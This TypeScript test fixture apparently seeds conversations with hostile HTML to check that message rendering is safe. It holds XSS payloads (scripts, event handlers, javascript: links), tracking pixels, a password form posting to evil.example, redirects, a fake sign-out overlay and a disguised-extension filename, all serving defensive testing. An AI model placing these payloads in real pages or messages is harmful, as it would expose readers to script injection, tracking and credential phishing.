/** What a person can write or an e-mail can carry into a conversation, and what must do no harm where it is shown. */
export interface HostileBody {
  name: string
  html(): string
}

const hugeParagraphs = 6000

/** In the order in which the newest conversations carry them. */
export const hostileBodies: readonly HostileBody[] = [
  {
    name: 'script',
    html: () =>
      '<p>Hello</p><script>document.title = "script ran"</script><p>after a script</p><SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  },
  {
    name: 'event handlers',
    html: () =>
      '<p onclick="document.title=\'handler ran\'">Click me</p><img src="x:missing" onerror="document.title=\'handler ran\'">' +
      '<details open ontoggle=alert(1)><summary>more</summary></details><svg/onload=alert(1)>',
  },
  {
    name: 'javascript links',
    html: () =>
      '<p><a href="javascript:document.title=\'link ran\'">one</a> <a href=" java\tscript:alert(1)">two</a> ' +
      '<a href="data:text/html,<script>alert(1)</script>">three</a> <a href="//evil.example" target="_blank">four</a></p>',
  },
  {
    name: 'tracking pixels',
    html: () =>
      '<p>Did you read this?</p><img src="https://pixel.evil.example/open.gif?id=1" width="1" height="1" alt="">' +
      '<p style="background-image:url(https://pixel.evil.example/css.gif)">Or this?</p>' +
      '<link rel="preload" as="image" href="https://pixel.evil.example/link.gif"><video poster="https://pixel.evil.example/poster.gif"></video>',
  },
  {
    name: 'frames and forms',
    html: () =>
      '<iframe src="https://evil.example/frame" srcdoc="<script>parent.document.title=1</script>"></iframe>' +
      '<form action="https://evil.example/login"><label>Password <input type="password" name="password"></label><button>Sign in again</button></form>' +
      '<object data="https://evil.example/a.swf"></object><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
  },
  {
    name: 'huge',
    html: () =>
      Array.from(
        { length: hugeParagraphs },
        (_, line) => `<p>Line ${line} of a log that was pasted in</p>`,
      ).join(''),
  },
  {
    name: 'right to left',
    html: () =>
      '<p dir="rtl">مرحباً، لم تصل الطلبية رقم 4471 بعد.</p><p>שלום, מתי זה מגיע?</p><p>file\u202Egnp.exe and \u2066isolated\u2069 text</p>',
  },
  {
    name: 'emoji',
    html: () => '<p>🎉👩‍👩‍👧‍👦🏳️‍🌈 👍🏽 ✨ Z̷̡͚͓̎͝a̵̛̦͘l̴̢͝g̶̛̱o̷̧͋ \u{1F1E9}\u{1F1EA} \u0000 \uD83D lone half</p>',
  },
  {
    name: 'unclosed tags',
    html: () =>
      '<p>One <b>two <i>three</p><div><ul><li>four<li>five</b></div></div></div><table><tr><td>six<p>seven</table><a href="https://shop.example/">eight',
  },
  {
    name: 'entities',
    html: () =>
      '<p>Fish &amp; chips &lt;b&gt;not bold&lt;/b&gt; &amp;lt;script&amp;gt; &quot;quoted&quot; &#39;&#x27; &nbsp;&hellip; &notanentity; 5 < 6 & 7 > 3</p>',
  },
  {
    name: 'styles that cover the page',
    html: () =>
      '<style>body{display:none} *{color:red!important}</style>' +
      '<div style="position:fixed;inset:0;z-index:2147483647;background:#fff">You have been signed out. <a href="https://evil.example/">Sign in</a></div>',
  },
  {
    name: 'nothing at all',
    html: () => '',
  },
]

/** Every third of the newest conversations carries one: so all are on the first two pages of twenty. */
const distance = 3

/** The hostile body of a seeded conversation, by its place from the newest (0); `undefined` for an ordinary one. */
export function hostileBodyAt(placeFromNewest: number): HostileBody | undefined {
  const place = placeFromNewest / distance
  return Number.isInteger(place) && place >= 1 ? hostileBodies[place - 1] : undefined
}
